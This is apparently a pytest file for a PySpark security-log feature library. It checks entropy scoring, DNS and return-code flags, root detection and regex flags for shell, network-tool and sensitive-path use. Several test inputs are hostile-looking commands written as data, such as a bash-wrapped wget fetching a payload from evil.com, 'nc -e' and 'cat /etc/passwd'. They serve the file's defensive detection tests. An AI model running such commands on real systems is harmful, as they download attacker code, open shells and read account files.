"""Entropy and feature flags (reference cases + a property test against Python)."""

import math
from collections import Counter

from hypothesis import given, settings
from hypothesis import strategies as st
from pyspark.sql import functions as F

from secstream.functions import features as X


def py_entropy(s):
    if not s:
        return 0.0
    n = len(s)
    return -sum((c / n) * math.log2(c / n) for c in Counter(s).values())


def col_values(spark, values, expr_fn, dtype="string"):
    df = spark.createDataFrame([(v,) for v in values], f"v {dtype}")
    return [r[0] for r in df.select(expr_fn(F.col("v"))).collect()]


def test_entropy_cases(spark):
    vals = col_values(spark, ["", "aaaa", "ab", "google.com", "x7f3a9b2c4e1d8f0a", None], X.shannon_entropy)
    assert vals[0] == 0.0 and vals[1] == 0.0 and vals[2] == 1.0
    assert vals[3] < 3.5 < vals[4]
    assert vals[5] == 0.0
    assert all(v >= 0 for v in vals)


@settings(max_examples=25, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=40), min_size=1, max_size=20))
def test_entropy_matches_python(spark, texts):
    got = col_values(spark, texts, X.shannon_entropy)
    for t, g in zip(texts, got):
        assert abs(g - py_entropy(t)) < 1e-9


def test_dns_failed_and_dots(spark):
    assert col_values(spark, [0, 3, None], X.dns_failed, "int") == [0, 1, 1]
    assert col_values(spark, ["a.b.c.com"], lambda c: X.count_char(c, "."))[0] == 3


def test_return_and_root(spark):
    assert col_values(spark, ["-1", "0", "4096", None], X.return_failed) == [1, 0, 0, 0]
    assert col_values(spark, ["0", "1000", "notanumber", None], X.is_root) == [1, 0, 0, 0]


def test_arg_patterns(spark):
    shells = col_values(spark, ["/bin/bash -c x", "/bin/sh", "POWERSHELL.exe", "/usr/bin/vim notes.txt"],
                        lambda c: X.has_pattern(c, X.SHELL_PATTERN))
    assert shells == [1, 1, 1, 0]
    nets = col_values(spark, ["wget http://evil.com/p", "curl -s x", "ncat", "curly", "nc -e"],
                      lambda c: X.has_pattern(c, X.NETWORK_PATTERN))
    assert nets == [1, 1, 1, 0, 1]
    paths = col_values(spark, ["cat /etc/passwd", "/proc/1234/maps", "/home/user"],
                       lambda c: X.has_pattern(c, X.SENSITIVE_PATH_PATTERN))
    assert paths == [1, 1, 0]


def test_event_category(spark):
    got = col_values(spark, ["execve", "openat", "connect", "mmap", "ptrace", None], X.event_category)
    assert got == ["process_exec", "file_access", "network", "memory", "other", "other"]


def test_serving_features_fill_zero(spark):
    df = spark.createDataFrame([("dns", ("google.com", 0, None, None, None)),
                                ("deep_kernel", (None, None, "/bin/bash -c wget http://evil.com/payload", 0, 0))],
                               "log_type string, attributes struct<dns_query string, dns_response_code int, "
                               "args string, return_value bigint, user_id bigint>")
    rows = df.select(X.serving_features(F.col("log_type")).alias("f")).collect()
    dns, k = rows[0]["f"].asDict(), rows[1]["f"].asDict()
    assert dns["feat_is_root_user"] == 0 and dns["feat_dns_query_length"] == 10
    assert k["feat_dns_query_length"] == 0 and k["feat_is_root_user"] == 1 and k["feat_args_has_network"] == 1
